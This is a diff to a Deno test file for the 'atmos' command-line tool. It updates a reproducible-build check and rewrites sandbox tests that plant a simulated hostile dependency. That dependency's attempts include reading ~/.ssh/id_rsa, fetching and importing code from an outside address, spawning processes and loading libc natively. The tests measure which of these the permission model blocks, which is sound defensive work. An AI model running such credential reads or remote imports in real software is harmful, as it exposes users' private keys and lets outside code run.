@@ -55,7 +55,15 @@ compiledTest("two compilations give the same bytes, and the sums beside them are
   const sums = await Deno.readTextFile(`${made.out}/SHA256SUMS`);
   assert.equal(await Deno.readTextFile(`${again}/SHA256SUMS`), sums);
   const names = sums.trim().split("\n").map((line) => line.slice(66)).sort();
-  assert.deepEqual(names, ["atmos-linux-x64", "atmos-linux-x64.cdx.json", "atmos.1"]);
+  assert.deepEqual(names, [
+    "atmos-linux-x64",
+    "atmos-linux-x64.cdx.json",
+    "atmos.1",
+    "atmos.bash",
+    "atmos.fish",
+    "atmos.ps1",
+    "atmos.zsh",
+  ]);
   for (const out of [made.out, again]) {
     const { code, stderr } = await run(["sha256sum", "--check", "--strict", "--quiet", "SHA256SUMS"], out);
     assert.deepEqual([code, stderr], [0, ""]);
@@ -131,12 +139,13 @@ compiledTest("neither words nor variables of Deno widen what it may do", async (
 
 /** Attempts of hostile code, each with what it says when it is let through. */
 const ATTEMPTS = `{
+  read: () => Deno.readTextFileSync(Deno.env.get("HOME") + "/.ssh/id_rsa"),
   run: () => new Deno.Command("true").outputSync().code,
-  connect: async () => { using c = await Deno.connect({ hostname: "127.0.0.1", port: 9 }); return c.localAddr; },
+  fetch: async () => (await fetch(Deno.env.get("ELSEWHERE") + "/fetched")).text(),
+  remote: () => import(Deno.env.get("ELSEWHERE") + "/imported.js"),
   native: () => Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } }).symbols.getpid(),
-  remote: () => import("https://127.0.0.1:9/hostile" + ".js"),
   hostname: () => Deno.hostname(),
-  ask: async () => (await Deno.permissions.request({ name: "run" })).state === "granted" || fail("denied"),
+  ask: async () => (await Deno.permissions.request({ name: "ffi" })).state === "granted" || fail("denied"),
 }`;
 
 /** The program with a dependency that turned hostile: it waits until the command is under way. */
@@ -164,40 +173,50 @@ async function withHostileChunk({ target, compiling }: Made, home: string, comma
   return `${stage}/hostile`;
 }
 
+/** What hostile code got done below a command, on a terminal, and which pages it reached elsewhere. */
+async function attempts(made: Made, home: string, command: string) {
+  const reached: string[] = [];
+  await using server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
+    reached.push(new URL(request.url).pathname);
+    return new Response("export {};", {
+      headers: { "content-type": "text/javascript", connection: "close" },
+    });
+  });
+  await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
+  await Deno.mkdir(`${home}/.ssh`);
+  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, "not a real key");
+  const hostile = await withHostileChunk(made, home, command);
+  const env = { REPORT: `${home}/report`, ELSEWHERE: `http://127.0.0.1:${server.addr.port}` };
+  // Where Deno would ask, were it not told not to.
+  const onTerminal = ["script", "-qec", `${hostile} auth ${command} --interactive=false`, "/dev/null"];
+  const { stdout } = await run(["timeout", "30", ...onTerminal], home, env);
+  assert.doesNotMatch(stdout, /Allow\?|\[y\/n/);
+  return { told: JSON.parse(await Deno.readTextFile(`${home}/report`)), reached };
+}
+
+const ALWAYS = { remote: "TypeError", native: "NotCapable", hostname: "NotCapable", ask: "Error" };
+
 compiledTest(
-  "hostile code in `validate` can start nothing, reach nothing, load nothing and ask nobody",
+  "hostile code in `validate` can start nothing, reach nothing, load nothing and ask nobody; it can read",
   async (made, home) => {
-    await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
-    const hostile = await withHostileChunk(made, home, "validate");
-    // On a terminal, where Deno would ask.
-    const onTerminal = ["script", "-qec", `${hostile} auth validate`, "/dev/null"] as const;
-    const { code, stdout } = await run(["timeout", "30", ...onTerminal], home, { REPORT: `${home}/report` });
-    assert.equal(code, 0, stdout);
-    assert.doesNotMatch(stdout, /Allow\?|\[y\/n/);
-    assert.deepEqual(JSON.parse(await Deno.readTextFile(`${home}/report`)), {
-      run: "NotCapable",
-      connect: "NotCapable",
-      native: "NotCapable",
-      remote: "TypeError",
-      hostname: "NotCapable",
-      ask: "Error",
+    assert.deepEqual(await attempts(made, home, "validate"), {
+      told: { ...ALWAYS, read: "let through: not a real key", run: "NotCapable", fetch: "NotCapable" },
+      reached: [],
     });
   },
 );
 
 compiledTest(
-  "hostile code in `env` can start programs and reach hosts, as that command may, and load no native code",
+  "hostile code in `env` can start programs and reach hosts, as that command may, and load no code",
   async (made, home) => {
-    await Deno.writeTextFile(`${home}/atmos.yaml`, chainedConfig("https://mycompany.awsapps.com/start"));
-    const hostile = await withHostileChunk(made, home, "env");
-    await run([hostile, "auth", "env"], home, { REPORT: `${home}/report` });
-    const { run: started, connect, ...others } = JSON.parse(await Deno.readTextFile(`${home}/report`));
-    assert.deepEqual([started, connect], ["let through: 0", "ConnectionRefused"]);
-    assert.deepEqual(others, {
-      native: "NotCapable",
-      remote: "TypeError",
-      hostname: "NotCapable",
-      ask: "let through: true",
+    assert.deepEqual(await attempts(made, home, "env"), {
+      told: {
+        ...ALWAYS,
+        read: "let through: not a real key",
+        run: "let through: 0",
+        fetch: "let through: export {};",
+      },
+      reached: ["/fetched"],
     });
   },
 );
